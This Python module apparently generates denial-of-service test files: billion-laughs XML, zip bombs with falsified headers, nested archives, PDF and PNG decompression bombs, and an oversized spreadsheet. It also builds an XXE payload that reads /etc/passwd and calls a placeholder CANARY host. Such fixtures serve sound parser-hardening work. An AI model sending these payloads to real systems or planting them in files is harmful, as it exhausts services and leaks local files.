"""Small files that exhaust memory, disk or time when a parser expands them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

XXE = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY d SYSTEM "http://CANARY/xxe">]><x>&b;&c;&d;</x>"""
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">'
    + b"".join(b'<!ENTITY e%d "%s">' % (i, b"&e%d;" % (i - 1) * 10) for i in range(1, 12))
    + b"]><x>&e11;</x>"
)
WORD = b"""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.
wordprocessingml.document.main+xml"/></Types>""".replace(b".\nword", b".word")
RELATIONS = b"""<?xml version="1.0"?><Relationships
xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type=
"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
Target="word/document.xml"/></Relationships>"""


def zip_archive(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def zeros(gigabytes: int, *, declared_size: int = 2**30) -> bytes:
    """Return a ZIP archive of files of zeros, a thousandth of the size it unpacks to.

    `declared_size` is the size of each file in the headers. The headers are written by hand
    because `zipfile` would compress every file again.
    """
    data = repeat_deflated(b"0" * 2**20, 1024)
    body, offsets = bytearray(), []
    common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, 0, len(data), declared_size, 5, 0)
    for i in range(gigabytes):
        offsets.append(len(body))
        body += b"PK\x03\x04" + common + b"%d.txt" % i + data
    start = len(body)
    for i, offset in enumerate(offsets):
        body += b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHLL", 0, 0, 0, 0, offset)
        body += b"%d.txt" % i
    size = len(body) - start
    ends = struct.pack("<HHHHLLH", 0, 0, len(offsets), len(offsets), size, start, 0)
    return bytes(body + b"PK\x05\x06" + ends)


def repeat_deflated(data: bytes, times: int) -> bytes:
    """Return `data` repeated `times` times, compressed once."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * times + b"\x03\x00"


def nested(levels: int = 5) -> bytes:
    """Return ten archives in each archive, as in 42.zip."""
    data = zip_archive({"zeros.txt": b"0" * 2**20})
    for _ in range(levels):
        data = zip_archive({f"{i}.zip": data for i in range(10)})
    return data


def office(part: bytes) -> bytes:
    """Return a Word file with this XML as its document part."""
    return zip_archive(
        {"[Content_Types].xml": WORD, "_rels/.rels": RELATIONS, "word/document.xml": part}
    )


def pdf(objects: list[bytes]) -> bytes:
    """Return a PDF of these objects; the first one is the root."""
    body, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n%b" % (size, table)
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (size, len(body))
    return bytes(body + head + tail)


ROOT = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"


def many_pages(number: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(number))
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, number)
    return pdf([ROOT, pages, *[PAGE] * number])


def deep_pages(depth: int) -> bytes:
    """Return a PDF with a page tree and nested arrays of this depth."""
    down = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (3 + i) for i in range(depth)]
    return pdf([ROOT, *down, b"[" * depth + b"]" * depth])


def inflated_page(megabytes: int) -> bytes:
    """Return a PDF with one page whose content stream unpacks to a thousand times its size."""
    stream = b"\x78\xda" + repeat_deflated(b"BT (x) Tj ET\n" * 80_000, megabytes)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    head = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
    return pdf([ROOT, pages, page, head + stream + b"\nendstream"])


def picture(side: int = 20_000) -> bytes:
    """Return a black PNG of `side` by `side` pixels."""
    data = b"\x78\xda" + repeat_deflated(b"\0" * (side * 3 + 1), side)
    head = struct.pack(">LLBBBBB", side, side, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))
        for name, body in chunks
    )


def sheet(cells: int) -> bytes:
    """Return a workbook with one row of this many cells."""
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
        b'PartName="/xl/workbook.xml" ContentType="%b.sheet.main+xml"/><Override PartName='
        b'"/xl/worksheets/s.xml" ContentType="%b.worksheet+xml"/></Types>' % (kind, kind)
    )
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relations = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = b"http://schemas.openxmlformats.org/package/2006/relationships"
    book = b'<workbook xmlns="%b" xmlns:r="%b"><sheets><sheet name="s" sheetId="1" r:id="r1"/>' % (
        main,
        relations,
    )
    link = b'<Relationships xmlns="%b"><Relationship Id="r1" Type="%b/%b" Target="%b"/>'
    row = b"<c><v>1</v></c>" * cells
    return zip_archive(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": link % (package, relations, b"officeDocument", b"xl/workbook.xml")
            + b"</Relationships>",
            "xl/workbook.xml": book + b"</sheets></workbook>",
            "xl/_rels/workbook.xml.rels": link
            % (package, relations, b"worksheet", b"worksheets/s.xml")
            + b"</Relationships>",
            "xl/worksheets/s.xml": b'<worksheet xmlns="%b"><sheetData><row>%b</row></sheetData>'
            b"</worksheet>" % (main, row),
        }
    )
